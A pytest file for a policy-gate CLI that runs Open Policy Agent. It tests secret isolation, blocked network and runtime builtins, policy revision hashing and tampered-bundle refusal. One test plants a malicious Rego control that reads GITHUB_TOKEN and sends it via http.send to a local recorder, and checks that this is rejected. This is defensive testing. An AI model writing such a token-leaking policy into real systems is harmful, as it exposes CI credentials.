"""How OPA is run: no inherited secrets, no network or runtime builtins, and a policy
revision that covers exactly what OPA loads (issue 15 rows 5 and 14). Real CLI, real OPA."""

from __future__ import annotations

import http.server
import json
import os
import subprocess
import sys
import tarfile
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest

from conftest import NOW, ROOT, asset, copy_policies
from gate.engine.toolchain import find_opa

CREDIT = str(asset("bundles", "credit-complete.json"))
TOKEN = "ghs_sandboxTestTokenThatMustNeverLeak0001"


def gate(*args: str, env: dict[str, str] | None = None) -> subprocess.CompletedProcess[str]:
    full_env = {k: v for k, v in os.environ.items() if not k.startswith("GITHUB_")}
    full_env.update(env or {})
    return subprocess.run(
        [sys.executable, "-m", "gate", *args],
        capture_output=True,
        text=True,
        cwd=ROOT,
        env=full_env,
        check=False,
        timeout=120,
    )


def revision_of(policy: Path) -> str:
    out = gate("version", "--policy", str(policy))
    assert out.returncode == 0, out.stderr
    return str(json.loads(out.stdout)["policy_revision"])


class _Recorder(http.server.BaseHTTPRequestHandler):
    paths: list[str] = []

    def do_GET(self) -> None:  # noqa: N802 - http.server API
        type(self).paths.append(self.path)
        self.send_response(200)
        self.send_header("Content-Length", "2")
        self.end_headers()
        self.wfile.write(b"{}")

    def log_message(self, *args: object) -> None:
        pass


@pytest.fixture
def recorder() -> Iterator[tuple[int, list[str]]]:
    handler = type("R", (_Recorder,), {"paths": []})
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield server.server_address[1], handler.paths
    server.shutdown()
    server.server_close()


def test_policy_exfiltrating_the_token_does_not_compile(
    tmp_path: Path, recorder: tuple[int, list[str]]
) -> None:
    """Row 14: a control that http.sends opa.runtime().env.GITHUB_TOKEN is an engine error."""
    port, seen = recorder
    policies = copy_policies(tmp_path)
    evil = policies / "gate" / "controls" / "mrm_gate" / "evil"
    evil.mkdir()
    (evil / "evil.rego").write_text(
        'package gate.controls.mrm_gate.evil\n\ncontrol := {"id": "EVIL-01", "status": "pass", '
        '"leak": http.send({"method": "get", "url": '
        f'sprintf("http://127.0.0.1:{port}/%s", [opa.runtime().env.GITHUB_TOKEN])}}).body}}\n',
        "utf-8",
    )
    out = gate(
        "check", "--bundle", CREDIT, "--stage", "merge", "--now", NOW, "--policy", str(policies),
        env={"GITHUB_TOKEN": TOKEN},
    )  # fmt: skip
    assert out.returncode == 3, out.stdout + out.stderr
    assert "undefined function" in out.stderr
    assert seen == []
    assert TOKEN not in out.stdout + out.stderr
    assert "Traceback" not in out.stderr


def test_opa_inherits_no_environment(tmp_path: Path, fake_bin) -> None:  # type: ignore[no-untyped-def]
    """Whatever OPA is handed, it never sees the job's secrets."""
    real = find_opa().path
    dump = tmp_path / "env.txt"
    opa = fake_bin(f'env >> "{dump}"\nexec "{real}" "$@"')
    out = gate(
        "check", "--bundle", CREDIT, "--stage", "merge", "--now", NOW, "--opa-bin", opa,
        env={"GITHUB_TOKEN": TOKEN, "AWS_SECRET_ACCESS_KEY": "aws-secret-value",
             "MRM_GATE_CACHE": str(tmp_path / "cache")},
    )  # fmt: skip
    assert out.returncode == 0, out.stderr
    seen = dump.read_text("utf-8")
    assert TOKEN not in seen and "aws-secret-value" not in seen
    assert "GITHUB" not in seen and "HOME=" not in seen


@pytest.mark.parametrize("how", ["hidden file", "symlinked folder"])
def test_revision_covers_what_opa_loads(tmp_path: Path, how: str) -> None:
    """Row 5: data OPA loads from a dot-file or a symlinked folder changes the revision."""
    policies = copy_policies(tmp_path)
    before = revision_of(policies)
    tune = {"gate": {"config": {"tuning": {"approval_stages": []}}}}
    if how == "hidden file":
        (policies / ".tune.json").write_text(json.dumps(tune), "utf-8")
    else:
        outside = tmp_path / "outside"
        outside.mkdir()
        (outside / "data.json").write_text(json.dumps(tune), "utf-8")
        (policies / "gate" / "tuning").symlink_to(outside, target_is_directory=True)
    after = revision_of(policies)
    assert after.startswith("sha256:") and after != before
    out = gate(
        "check", "--bundle", CREDIT, "--stage", "merge", "--now", NOW, "--policy", str(policies),
        "--format", "json",
    )  # fmt: skip
    assert json.loads(out.stdout)["policy_revision"] == after


def test_same_policies_elsewhere_same_revision(tmp_path: Path) -> None:
    """The revision names the content, not the folder it was read from."""
    a = copy_policies(tmp_path / "a")
    b = copy_policies(tmp_path / "b")
    assert revision_of(a) == revision_of(b) == revision_of(ROOT / "policies")


def test_bundle_check_and_version_agree(tmp_path: Path) -> None:
    built = tmp_path / "p.tar.gz"
    out = gate("bundle", "--output", str(built))
    assert out.returncode == 0, out.stderr
    dir_revision = revision_of(ROOT / "policies")
    assert dir_revision in out.stdout
    assert revision_of(built) == dir_revision
    check = gate(
        "check", "--bundle", CREDIT, "--stage", "merge", "--now", NOW, "--policy", str(built),
        "--format", "json",
    )  # fmt: skip
    assert check.returncode == 0, check.stderr
    assert json.loads(check.stdout)["policy_revision"] == dir_revision


def test_tampered_bundle_is_refused(tmp_path: Path) -> None:
    """A bundle whose files no longer match its stamped revision is bad input (exit 2)."""
    built = tmp_path / "p.tar.gz"
    assert gate("bundle", "--output", str(built)).returncode == 0
    unpacked = tmp_path / "unpacked"
    with tarfile.open(built, "r:gz") as tar:
        tar.extractall(unpacked, filter="data")
    data = unpacked / "data.json"
    doc = json.loads(data.read_text("utf-8"))
    doc["gate"]["config"]["defaults"]["approval_stages"] = []
    data.write_text(json.dumps(doc), "utf-8")
    tampered = tmp_path / "tampered.tar.gz"
    with tarfile.open(tampered, "w:gz") as tar:
        for path in sorted(unpacked.rglob("*")):
            if path.is_file():
                tar.add(path, arcname="/" + path.relative_to(unpacked).as_posix())
    out = gate(
        "check", "--bundle", CREDIT, "--stage", "production", "--now", NOW,
        "--policy", str(tampered),
    )  # fmt: skip
    assert out.returncode == 2, out.stdout + out.stderr
    assert "rebuild it with `mrm-gate bundle`" in out.stderr


def test_build_failure_is_an_engine_error(tmp_path: Path) -> None:
    policies = copy_policies(tmp_path)
    (policies / "gate" / "broken.rego").write_text("package gate.broken\n\nx := \n", "utf-8")
    out = gate(
        "check", "--bundle", CREDIT, "--stage", "merge", "--now", NOW, "--policy", str(policies)
    )
    assert out.returncode == 3
    assert "bundle build failed" in out.stderr and "broken.rego" in out.stderr
    assert "Traceback" not in out.stderr


def test_unwritable_cache_costs_speed_not_the_check(tmp_path: Path) -> None:
    blocked = tmp_path / "not-a-folder"
    blocked.write_text("a file where the cache folder would go", "utf-8")
    out = gate(
        "check", "--bundle", CREDIT, "--stage", "merge", "--now", NOW,
        env={"MRM_GATE_CACHE": str(blocked / "cache")},
    )  # fmt: skip
    assert out.returncode == 0, out.stderr
    assert "Traceback" not in out.stderr
